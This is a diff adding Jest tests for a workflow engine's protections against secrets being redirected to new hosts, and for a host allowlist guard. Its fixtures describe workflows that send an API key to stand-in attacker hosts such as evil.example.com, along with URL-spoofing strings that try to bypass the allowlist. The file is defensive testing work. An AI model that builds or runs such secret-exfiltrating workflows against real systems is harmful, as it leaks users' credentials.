@@ -1,0 +1,149 @@
+import { describe, expect, test } from '@jest/globals';
+import type { JsonObject } from '../../src/engine/json-value.js';
+import { MASK } from '../../src/engine/secrets.js';
+import { keptSecretFaults } from '../../src/engine/workflow/kept-secrets.js';
+import { allowedHostsFault, HostGuard } from '../../src/engine/workflow/secret-hosts.js';
+import { trigger, workflow } from './samples.js';
+
+const SECRET = 'sk-0123456789';
+const key = (more: JsonObject = {}) => ({ id: 'key', is_secret: true, default_value: MASK, ...more });
+const start = (...fields: JsonObject[]) => trigger('t', { input_fields: fields });
+const node = (id: string, type: string, data: JsonObject) => ({ id, type, data }) as never;
+const http = (url: string, more: JsonObject = {}) =>
+  node('call', 'http-node', { url, headers: { Authorization: 'Bearer {{ input.key }}' }, ...more });
+const kept = (before: unknown[], after: unknown[]) =>
+  keptSecretFaults(workflow(after as never), { data: workflow(before as never), secrets: { key: SECRET } });
+
+describe('a secret that an update keeps', () => {
+  const before = [start(key()), http('https://api.example.com/v1')];
+  const agent = (url: string) =>
+    node('agent', 'agent-node', { tools: [{ kind: 'http', request: { url, body: '{{ input.key }}' } }] });
+
+  test.each<[string, unknown[]]>([
+    ['the graph stays', before],
+    ['another path of the host is called', [start(key()), http('https://API.example.com/v2?x={{ input.x }}')]],
+    ['another host gets nothing of it', [...before, node('open', 'http-node', { url: 'https://other.example.com' })]],
+    ['it is entered again', [start(key({ default_value: 'sk-new' })), http('https://evil.example.com')]],
+    ['it is no secret that was stored', [start(key({ id: 'other' })), http('https://evil.example.com')]],
+  ])('stays when %s', (_title, after) => {
+    expect(kept(before, after)).toEqual([]);
+  });
+
+  test.each<[string, unknown[], string]>([
+    ['the host changes', [start(key()), http('https://evil.example.com/v1')], 'evil.example.com'],
+    ['the port changes', [start(key()), http('https://api.example.com:8443/v1')], 'api.example.com:8443'],
+    ['a placeholder becomes the host', [start(key()), http('https://{{ input.host }}/v1')], 'https://{{ input.host }}'],
+    [
+      'the whole input is sent',
+      [...before, node('n', 'http-node', { url: 'https://evil.example.com', body: '{{ input }}' })],
+      'evil.example.com',
+    ],
+    [
+      'an MCP server gets it',
+      [
+        ...before,
+        node('n', 'mcp-node', { endpoint_url: 'https://evil.example.com', headers: { a: '{{input["key"]}}' } }),
+      ],
+      'evil.example.com',
+    ],
+    ['a tool of an agent gets it', [...before, agent('https://evil.example.com')], 'evil.example.com'],
+    [
+      'a workflow gets it',
+      [...before, node('n', 'subworkflow-node', { workflow_id: 7, input: { k: '{{ input.key }}' } })],
+      'workflow 7',
+    ],
+    [
+      'a content that may hold it is sent',
+      [
+        ...before,
+        node('c', 'code-node', { code: 'return input.key' }),
+        node('n', 'http-node', { url: 'https://evil.example.com', body: '{{ nodes.c.content }}' }),
+      ],
+      'evil.example.com',
+    ],
+    [
+      'a node in a loop sends it',
+      [...before, node('l', 'loop-node', { body: workflow([http('https://evil.example.com')]) })],
+      'evil.example.com',
+    ],
+  ])('must be entered again when %s', (_title, after, place) => {
+    const [fault, ...more] = kept(before, after);
+    expect(more).toEqual([]);
+    expect(fault).toContain('Node "t", input field "key": enter default_value again.');
+    expect(fault).toContain(`send it to ${place},`);
+    expect(fault).not.toContain(SECRET);
+  });
+
+  test('must be entered again when the default changes that its host is made of', () => {
+    const graph = (host: string) => [
+      start(key(), { id: 'host', default_value: host }),
+      http('https://{{ input.host }}/'),
+    ];
+    expect(kept(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
+    expect(kept(graph('a.example.com'), graph('b.example.com'))).toHaveLength(1);
+  });
+
+  test('must be entered again when more hosts are allowed', () => {
+    const allowing = (allowed_hosts?: unknown) => [start(key(allowed_hosts === undefined ? {} : { allowed_hosts }))];
+    expect(kept(allowing(['a.example.com', 'b.example.com']), allowing(['a.example.com']))).toEqual([]);
+    expect(kept(allowing(), allowing(['a.example.com']))).toEqual([]);
+    for (const more of [allowing(['b.example.com']), allowing([]), allowing()])
+      expect(kept(allowing(['a.example.com']), more)).toEqual([
+        expect.stringContaining('allowed_hosts takes more hosts'),
+      ]);
+  });
+});
+
+describe('allowed hosts', () => {
+  const guard = (hosts: string[], values = [SECRET]) => new HostGuard([{ field: 'key', values, hosts }]);
+  const passes = (hosts: string[], address: string | null, sent: unknown = { body: `is ${SECRET}` }) => {
+    try {
+      guard(hosts).check(address, sent);
+      return true;
+    } catch (error) {
+      expect(error).toMatchObject({ code: 'host_not_allowed' });
+      expect((error as Error).message).toContain('input field "key" may be sent to');
+      return false;
+    }
+  };
+
+  test.each<[string, string, boolean]>([
+    ['api.example.com', 'https://api.example.com/x', true],
+    ['api.example.com', 'https://API.example.com.:8443/', true],
+    ['api.example.com:8443', 'https://api.example.com:8443/', true],
+    ['api.example.com:443', 'https://api.example.com/', true],
+    ['api.example.com:8443', 'https://api.example.com/', false],
+    ['api.example.com', 'https://example.com/', false],
+    ['api.example.com', 'https://api.example.com.evil.org/', false],
+    ['api.example.com', 'https://api.example.com@evil.org/', false],
+    ['*.example.com', 'https://a.b.example.com/', true],
+    ['*.example.com', 'https://example.com/', false],
+    ['*.example.com', 'https://evilexample.com/', false],
+  ])('%s and %s: %s', (host, address, isAllowed) => {
+    expect(passes([host], address)).toBe(isAllowed);
+  });
+
+  test('are looked at for what holds the secret, in whatever form', () => {
+    const hosts = ['api.example.com'];
+    expect(passes(hosts, 'https://evil.org/', { body: 'nothing' })).toBe(true);
+    for (const sent of [SECRET.toUpperCase(), { [SECRET]: 1 }, JSON.stringify({ a: SECRET })])
+      expect(passes(hosts, 'https://evil.org/', sent)).toBe(false);
+    expect(passes(hosts, `https://evil.org/?k=${SECRET}`, {})).toBe(false);
+    expect(passes(hosts, null, SECRET)).toBe(false);
+    expect(() => guard(hosts, ['abc']).check('https://evil.org/', 'is abc')).toThrow();
+  });
+
+  test.each<[unknown, boolean]>([
+    [['api.example.com', '*.example.com', '127.0.0.1:80'], true],
+    [null, true],
+    [[], false],
+    ['api.example.com', false],
+    [['https://api.example.com'], false],
+    [['*'], false],
+    [['API.example.com'], false],
+    [[1], false],
+  ])('may be %j: %s', (allowed_hosts, isValid) => {
+    expect(allowedHostsFault({ is_secret: true, allowed_hosts } as JsonObject) === undefined).toBe(isValid);
+    if (allowed_hosts !== null) expect(allowedHostsFault({ allowed_hosts } as JsonObject)).toContain('secret fields');
+  });
+});
